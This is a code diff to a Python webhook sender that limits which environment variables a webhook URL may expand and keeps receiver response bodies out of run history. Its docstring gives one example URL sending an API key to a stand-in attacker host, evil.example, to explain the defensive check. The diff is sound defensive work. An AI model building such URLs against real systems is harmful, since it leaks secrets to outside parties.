@@ -12,6 +12,14 @@ Every webhook is one JSON POST (payload documented in docs/notifications.md) wit
 
 2xx is delivered. 408, 425, 429 and 5xx, timeouts and connection errors are retried (after the
 receiver's `Retry-After` when it sends one); any other answer, redirects included, is permanent.
+Failures name the status code and its reason phrase only: a receiver's response body never
+reaches the activity's result or error, which land in the run's history.
+
+**`${ENV}` in webhook URLs.** Whoever may start a run (any API writer) chooses its webhook URLs, so
+a URL must not be able to read the worker's secrets: `https://evil.example/?k=${ANTHROPIC_API_KEY}`
+would send the key away. Only variables whose names start with `ITERLOOP_WEBHOOK_` are expanded
+(`https://hooks.example/${ITERLOOP_WEBHOOK_TOKEN}`); a URL that refers to any other variable, or
+to one that is not set on the worker, is refused (non-retryable) naming the variable.
 """
 
 from __future__ import annotations
@@ -19,12 +27,15 @@ from __future__ import annotations
 import hashlib
 import hmac
 import json
+import os
 import time
+from collections.abc import Mapping
 from datetime import datetime, timezone
 from typing import Any
 
 import httpx
 
+from activities.env import expand_env, referenced_names
 from activities.http_retry import retry_delay_from_headers
 from activities.notify.errors import Permanent, Transient
 from workflows.messages import NotifyRequest
@@ -35,6 +46,23 @@ TIMESTAMP_HEADER = "X-Iterloop-Timestamp"
 SIGNATURE_HEADER = "X-Iterloop-Signature"
 RETRYABLE_STATUSES = frozenset({408, 425, 429})
 USER_AGENT = "iterloop-webhooks/1"
+#: The only environment variables a webhook URL may refer to.
+URL_VAR_PREFIX = "ITERLOOP_WEBHOOK_"
+
+
+def expand_webhook_url(target: str, url: str, env: Mapping[str, str] | None = None) -> str:
+    """``url`` with its `${ITERLOOP_WEBHOOK_…}` references expanded from ``env`` (default: the
+    worker's environment); any other reference, or an unset one, is a `Permanent` failure of
+    ``target`` naming the variable (never its value)."""
+    env = os.environ if env is None else env
+    for name in referenced_names(url):
+        if not name.startswith(URL_VAR_PREFIX):
+            raise Permanent(target, f"the URL refers to the environment variable '{name}', and webhook URLs may only "
+                                    f"use variables whose names start with {URL_VAR_PREFIX} (anyone who can start a "
+                                    f"run chooses its URLs): put the value in {URL_VAR_PREFIX}… on the worker")
+        if name not in env:
+            raise Permanent(target, f"the URL refers to '{name}', which is not set on the worker")
+    return expand_env(url, env)
 
 
 def webhook_payload(req: NotifyRequest, *, event_id: str, occurred_at: datetime,
@@ -119,19 +147,14 @@ class WebhookSender:
         status = response.status_code
         if 200 <= status < 300:
             return
-        said = _excerpt(response.text)
+        answered = f"HTTP {status} {response.reason_phrase}".rstrip()  # never the body: it would enter history
         if status in RETRYABLE_STATUSES or status >= 500:
-            raise Transient(target, f"webhook answered HTTP {status}{said}",
+            raise Transient(target, f"webhook answered {answered}",
                             retry_after=retry_delay_from_headers(response.headers))
         if 300 <= status < 400:
-            raise Permanent(target, f"webhook answered HTTP {status} (redirects are not followed): "
+            raise Permanent(target, f"webhook answered {answered} (redirects are not followed): "
                                     "configure the final URL")
-        raise Permanent(target, f"webhook refused the notification (HTTP {status}){said}")
-
-
-def _excerpt(text: str) -> str:
-    text = " ".join(text.split())
-    return f": {text[:200]}" if text else ""
+        raise Permanent(target, f"webhook refused the notification ({answered})")
 
 
 def _iso(when: datetime) -> str:
